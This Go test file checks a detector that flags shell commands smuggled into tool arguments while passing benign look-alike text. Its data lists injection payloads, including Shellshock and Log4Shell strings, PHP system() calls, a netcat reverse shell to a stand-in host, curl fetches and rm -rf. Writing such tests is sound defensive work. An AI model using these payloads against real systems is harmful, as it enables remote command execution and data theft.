package touch_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/vedette-dev/vedette/sentinel/touch"
	"github.com/vedette-dev/vedette/skills"
)

// A command spliced into an argument that holds none is found; names, prose
// and links that look a little like one pass.
func TestInjected(t *testing.T) {
	s := skill(t, skills.Irreversible)
	for _, v := range []string{
		"a.example; cat x", "a.example;id", "a.example|id", "a.example && whoami", "a.example & ping -c 1 a.example &", "`id`", "a$(id)b",
		"a$(sleep 10)", "$(/tmp/x)", "a.example\nid", `a.example\nid\n`, "a.example%0aid", "a.example%0A cat%20x",
		"a.example%26%26id", "a);id", "'; ls -la; '", "||/usr/bin/id", "x;sleep${IFS}5", "() { :;}; echo x", `<!--#exec cmd="id"-->`,
		"<?php system('id');?>", "system('id')", "${jndi:ldap://a.example/x}", "a.example;{curl,b.example}", "cat /srv/x", "{{ f.open('x') }}",
	} {
		for _, arg := range []string{"to", "path", "url"} {
			require.NotEmpty(t, touch.Of(s, map[string]any{arg: v}, env()).Injected, "%s in %s", v, arg)
		}
		require.Empty(t, touch.Of(s, map[string]any{"body": v, "password": v}, env()).Injected, "content and secrets are data: %s", v)
		require.Empty(t, touch.Of(s, map[string]any{"command": v}, env()).Injected, "a command line is one: %s", v)
	}
	for _, v := range []string{"a.example; cat /etc/hosts", "x | nc a.example 1 -e /bin/sh", "`curl a.example`", "() { :;}; echo x",
		"a && rm -rf x", "a\ncurl -s a.example"} {
		require.NotEmpty(t, touch.Of(s, map[string]any{"note": v}, env()).Injected, "also in an argument without marks: %s", v)
	}
	for _, v := range []string{
		"AT&T", "R&D; budget", "Smith & Sons", "Bob; Alice", "foo|bar", "Rock'n'Roll; find me", "Hello\nsort this out", "Berlin\ntime zone",
		"use `ls` to list", "call me; date tbd", "a@b.example; c@d.example", "$100", "50% & more", "C++ | Rust", "https://a.example/?a=1&id=3",
		"https://a.example/x;jsessionid=1", "Q&A", "{{name}}", "report (final).pdf", "x;y.txt", "<summary>", "a & b | c", "Milk; eggs; cat food",
		"he said: kill -9 is rude; I agree",
	} {
		for _, arg := range []string{"to", "note", "path"} {
			require.Empty(t, touch.Of(s, map[string]any{arg: v}, env()).Injected, "%q in %s", v, arg)
		}
	}
}
